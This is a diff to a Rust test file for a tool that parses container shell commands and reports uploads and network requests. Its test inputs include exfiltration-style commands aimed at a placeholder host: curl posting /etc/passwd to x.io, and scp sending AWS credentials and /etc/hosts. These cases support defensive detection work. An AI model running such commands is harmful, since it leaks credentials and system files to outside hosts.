@@ -1925,7 +1925,14 @@ fn commands_run_in_containers() {
                 "scp",
                 host(None, "x.io", None, None),
                 "UPLOAD",
-                payload(&[], &[("/home/dana/.aws/credentials", false)], &[])
+                payload(
+                    &[],
+                    &[
+                        ("/home/dana/.aws/credentials", false),
+                        ("/etc/hosts", false)
+                    ],
+                    &[]
+                )
             )]),
         ),
         // The working directory inside maps through its mount.
@@ -1945,7 +1952,12 @@ fn commands_run_in_containers() {
         ),
         (
             "docker exec -it web curl -d @/etc/passwd https://x.io",
-            json!([url_request("curl", "https://x.io", "POST", empty())]),
+            json!([url_request(
+                "curl",
+                "https://x.io",
+                "POST",
+                payload(&[], &[("/etc/passwd", false)], &[])
+            )]),
         ),
         (
             "docker run -d --name db -p 5432:5432 postgres:16",
@@ -3075,7 +3087,7 @@ fn publishing_and_processes() {
                 "skopeo",
                 host(None, "docker.io", None, Some("jdoe/api:1")),
                 "UPLOAD",
-                payload(&["docker.io/jdoe/api:1"], &[], &[])
+                payload(&["u:p", "docker.io/jdoe/api:1"], &[], &[])
             )]),
         ),
         (
